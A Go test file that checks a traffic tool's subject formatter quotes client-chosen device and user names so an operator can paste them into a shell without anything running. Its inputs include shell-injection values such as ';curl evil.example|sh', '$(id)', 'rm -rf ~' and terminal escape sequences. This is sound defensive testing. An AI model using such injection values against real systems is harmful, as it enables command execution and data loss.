package subject

import (
	"net/netip"
	"os/exec"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/weirhq/weir/cmd/weir/internal/terminal"
	"github.com/weirhq/weir/traffic"
)

// inShell is what a real shell makes of a line that was pasted behind a command: the command's arguments.
func inShell(t interface {
	Helper()
	Fatalf(string, ...any)
}, shell, line string) []string {
	t.Helper()
	out, err := exec.Command(shell, "-c", `printf '%s\000' `+line).Output()
	if err != nil {
		t.Fatalf("%s, given %q: %v", shell, line, err)
	}
	return strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
}

// shells are those of this machine: sh is dash on Debian, which expands less than bash does.
func shells() []string {
	var found []string
	for _, name := range []string{"sh", "bash", "zsh", "ksh"} {
		if path, err := exec.LookPath(name); err == nil {
			found = append(found, path)
		}
	}
	return found
}

// A client chooses its device's name, and an operator pastes it into a shell. Nothing in it is run, no value becomes another
// field, and the words name the subject that was shown.
func TestShownSubjectsCanBePastedIntoAShell(t *testing.T) {
	for _, hostile := range []string{
		";curl evil.example|sh; user=alice", "$(touch /tmp/x)", "`id`", "a b", "a  user=b", "~", "~root", "a:~root", "x=~root", "*", "?", "[a]", "{a,b}", "!!", "!$", "#",
		"-rf", "--reason", "a'b", `a"b`, `a\`, "a&user=b", "a&", "50%", "%25", "%2F", "\n", "a\nb", "\x00", "\x1b[2J", "\xff", "\u202eevil", "·", "…", "missing", "(all)", "=", "a=b",
		"sha256:" + strings.Repeat("a", 64), "ip=192.0.2.1/32", strings.Repeat("tv ", 80), strings.Repeat("a", 250), strings.Repeat("'", 100), "<x>", "a>b", "${HOME}", "@", "^",
	} {
		for _, id := range []traffic.Identity{
			{Device: hostile}, {IP: netip.MustParseAddr("192.0.2.1"), Device: hostile}, {IP: netip.MustParseAddr("2001:db8::1"), User: hostile, Session: hostile}, {APIKey: hostile, Session: "s"},
		} {
			wantPasted(t, &id, shells()...)
		}
	}
}

func TestAnyShownSubjectCanBePasted(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		value := rapid.Map(rapid.SliceOfN(rapid.OneOf(rapid.Byte(), rapid.SampledFrom([]byte("a/:@-._~%&=' \"$`;"))), 0, 70), func(b []byte) string { return string(b) })
		id := traffic.Identity{Device: value.Draw(t, "device"), User: value.Draw(t, "user"), APIKey: value.Draw(t, "api_key"), Session: value.Draw(t, "session")}
		switch rapid.IntRange(0, 2).Draw(t, "family") {
		case 1:
			id.IP = netip.AddrFrom4([4]byte(rapid.SliceOfN(rapid.Byte(), 4, 4).Draw(t, "v4")))
		case 2:
			id.IP = netip.MustParseAddr("2001:db8::1")
		}
		wantPasted(t, &id, "sh")
	})
}

// wantPasted looks at the subject of all that id has, and at the form of it that Redis holds.
func wantPasted(t interface {
	Helper()
	Fatalf(string, ...any)
	Errorf(string, ...any)
}, id *traffic.Identity, shells ...string) {
	t.Helper()
	var key []traffic.KeyField
	for f := range traffic.NumFields {
		k := traffic.KeyField{Field: f, V4: 32, V6: 64}
		if _, has := id.Value(k); has {
			key = append(key, k)
		}
	}
	if len(key) == 0 {
		return
	}
	s, _ := traffic.MakeSubject(id, key)
	wantRead(t, s, shells...)
	if stored := s.Stored(); stored != s {
		wantRead(t, stored, shells...)
	}
}

// wantRead shows a subject, gives it to shells and reads the words.
func wantRead(t interface {
	Helper()
	Fatalf(string, ...any)
	Errorf(string, ...any)
}, s traffic.Subject, shells ...string) {
	t.Helper()
	line := Text(s)
	if line != terminal.Shown(line) {
		t.Fatalf("%q is shown as %q, which a terminal is not shown as it is", s, line)
	}
	for _, shell := range shells {
		words := inShell(t, shell, line)
		got, err := Read(words, 8, 8) // what is shown has its own prefix lengths
		if err != nil || got != s {
			t.Errorf("%q is shown as %s, which %s makes %q of, and that is read as %q, %v", s, line, shell, words, got, err)
		}
		if fields := strings.Count(string(s), "&") + 1; line[0] != '\'' && len(words) != fields {
			t.Errorf("%q of %d fields is shown as %s: %d words", s, fields, line, len(words))
		}
	}
}

// A source may be named by more than an identity, and by names that mean something to a shell.
func TestSubjectsBesideTheIdentity(t *testing.T) {
	id := traffic.Identity{IP: netip.MustParseAddr("192.0.2.1"), APIKey: "k"}
	fields := []string{"{id}", "attrs.tenant", "attrs.a b&c=d", "host", "path", "user_agent"}
	for n := range 1 << len(fields) {
		key, extra := []traffic.KeyField{{Field: traffic.FieldIP, V4: 32, V6: 64}}, typed{}
		for i, name := range fields {
			if n&(1<<i) != 0 {
				k, ok := traffic.ParseKeyField(name)
				if !ok {
					t.Fatal(name)
				}
				key, extra[k] = append(key, k), []string{"7", "a'b $(id)", "GET&ip=x", strings.Repeat("long", 40)}[(n+i)%4]
			}
		}
		s, missing := traffic.MakeSubjectOf(&id, extra, key)
		if missing != 0 {
			t.Fatal(s)
		}
		wantRead(t, s, "sh")
		wantRead(t, s.Stored(), "sh")
	}
	if got := Text("ip=192.0.2.1%2F32&attrs.tenant=acme"); got != "ip=192.0.2.1/32 attrs.tenant=acme" {
		t.Error(got)
	}
	if got, err := Read([]string{"attrs.tenant=acme", "{id}=7", "ip=192.0.2.1"}, 32, 64); err != nil || got != "ip=192.0.2.1%2F32&attrs.tenant=acme&%7Bid%7D=7" {
		t.Error(got, err)
	}
	for _, bad := range []string{"api_key|ip=1", "attrs.=1", "{}=1"} {
		if got, err := Read([]string{bad}, 32, 64); err == nil {
			t.Errorf("%s is read as %s", bad, got)
		}
	}
}

// What is no subject names nobody, and a shell finds nothing in it either.
func TestWhatIsNoSubjectIsHarmlessToo(t *testing.T) {
	for _, bad := range []traffic.Subject{"device='; rm -rf ~'", "=x", "device=$(id)", "device=%zz", "\x1b[2J"} {
		line := Text(bad)
		if line != terminal.Shown(line) || len(inShell(t, "sh", line)) != 1 {
			t.Errorf("%q is shown as %s", bad, line)
		}
	}
}

// The plain form is for reading: it is used wherever nothing speaks against it.
func TestSubjectsAreShownForReading(t *testing.T) {
	for s, want := range map[traffic.Subject]string{
		"":                              "(all)",
		"ip=192.0.2.1%2F32&device=tv-7": "ip=192.0.2.1/32 device=tv-7",
		"ip=2001%3Adb8%3A%3A%2F64":      "ip=2001:db8::/64",
		"user=ann%40example.com":        "user=ann@example.com",
		"ip=192.0.2.1%2F32&device":      "ip=192.0.2.1/32 device missing",
		"device=sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef":   "device=sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
		"device=sha256%3A0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef": "'device=sha256%3A0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef'",
		"ip=192.0.2.1%2F32&device=tv%207":                                                  "'ip=192.0.2.1%2F32&device=tv%207'",
		"ip=192.0.2.1%2F32&device=%3Bcurl%20evil.example%7Csh%3B%20user%3Dalice":           "'ip=192.0.2.1%2F32&device=%3Bcurl%20evil.example%7Csh%3B%20user%3Dalice'",
	} {
		if got := Text(s); got != want {
			t.Errorf("%q is shown as %q, want %q", s, got, want)
		}
	}
}

func TestReadSubject(t *testing.T) {
	for _, tc := range []struct {
		words string
		want  traffic.Subject
		err   string // part of it, where there is no subject
	}{
		{"ip=192.0.2.1", "ip=192.0.2.1%2F32", ""},
		{"ip=192.0.2.1/24", "ip=192.0.2.0%2F24", ""},
		{"ip=2001:db8::1", "ip=2001%3Adb8%3A%3A%2F64", ""},
		{"ip=::ffff:192.0.2.1", "ip=192.0.2.1%2F32", ""},
		{"device=tv-7 ip=192.0.2.1", "ip=192.0.2.1%2F32&device=tv-7", ""},
		{"user=a=b&c", "user=a%3Db%26c", ""},
		{"device=a&user=b", "device=a&user=b", ""},
		{"ip=192.0.2.1%2F32&device=a%26b", "ip=192.0.2.1%2F32&device=a%26b", ""},
		{"user=50%", "", "with %25 for a % itself"},
		{"user=50%25", "user=50%25", ""},
		{"colour=a%20b", "", `there is no field "colour"; known: ip, device, user, api_key, session`},
		{"ip=nowhere", "", "allowed: an address or a range"},
		{"ip=192.0.2.1 ip=192.0.2.2", "", "each of ip, device, user, api_key, session, host, method, route, plan, user_agent, path, {param} and attrs.NAME once at most"},
		{"devcie=tv", "", `there is no field "devcie"; did you mean device?`},
		{"user=", "", "allowed: FIELD=VALUE"},
		{"192.0.2.1", "", "allowed: FIELD=VALUE"},
	} {
		got, err := Read(strings.Fields(tc.words), 32, 64)
		if got != tc.want || (err == nil) != (tc.err == "") || err != nil && !strings.Contains(err.Error(), tc.err) {
			t.Errorf("%s: got %q, %v; want %q, %s", tc.words, got, err, tc.want, tc.err)
		}
	}
}
